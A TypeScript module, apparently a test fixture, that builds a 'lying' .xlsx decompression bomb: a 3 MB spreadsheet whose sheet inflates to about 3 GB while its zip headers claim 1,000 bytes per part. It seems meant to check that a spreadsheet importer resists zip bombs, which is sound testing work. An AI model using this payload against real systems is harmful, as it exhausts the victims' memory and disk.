import { constants, crc32, deflateRawSync } from 'node:zlib';

// The spreadsheet of the security findings: 3 MB whose sheet unpacks to 3 GB, its zip headers
// declaring 1,000 bytes for every part. Built in a second from one deflate segment repeated (a segment
// ended by a sync flush is byte-aligned and refers only to its own bytes, so copies of it chain).

interface Part {
  name: string;
  /** Raw deflate data. */
  data: Buffer;
  crc: number;
  size: number;
}

const part = (name: string, text: string): Part => {
  const bytes = Buffer.from(text);
  return { name, data: deflateRawSync(bytes), crc: crc32(bytes), size: bytes.length };
};

/** A zip of `parts` (deflated), each declaring `declaredSize` unpacked bytes whatever it holds. */
function zip(parts: Part[], declaredSize: number): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data, crc } of parts) {
    const fileName = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(declaredSize, 22);
    local.writeUInt16LE(fileName.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(declaredSize, 24);
    central.writeUInt16LE(fileName.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, fileName, data);
    centrals.push(central, fileName);
    offset += local.length + fileName.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** An .xlsx of about `megabytes` MB whose one sheet unpacks to about 1,000 times as much. */
export function lyingSpreadsheetBomb(megabytes = 3): Buffer {
  const spaces = Buffer.alloc(1024 * 1024, 0x20);
  const segment = deflateRawSync(spaces, { finishFlush: constants.Z_SYNC_FLUSH, level: 9 });
  const head =
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
  const start = deflateRawSync(Buffer.from(head), { finishFlush: constants.Z_SYNC_FLUSH });
  const copies = Math.round((megabytes * 1024 * 1024) / segment.length);
  const sheet = Buffer.concat([start, ...Array.from({ length: copies }, () => segment), Buffer.from([0x03, 0x00])]);
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const rels = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  return zip(
    [
      part(
        '[Content_Types].xml',
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
      ),
      part(
        '_rels/.rels',
        `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rels}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      ),
      part(
        'xl/workbook.xml',
        `<?xml version="1.0"?><workbook xmlns="${main}" xmlns:r="${rels}"><sheets><sheet name="Jobs" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      ),
      part(
        'xl/_rels/workbook.xml.rels',
        `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rels}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
      ),
      { name: 'xl/worksheets/sheet1.xml', data: sheet, crc: 0, size: 0 },
    ],
    1000,
  );
}
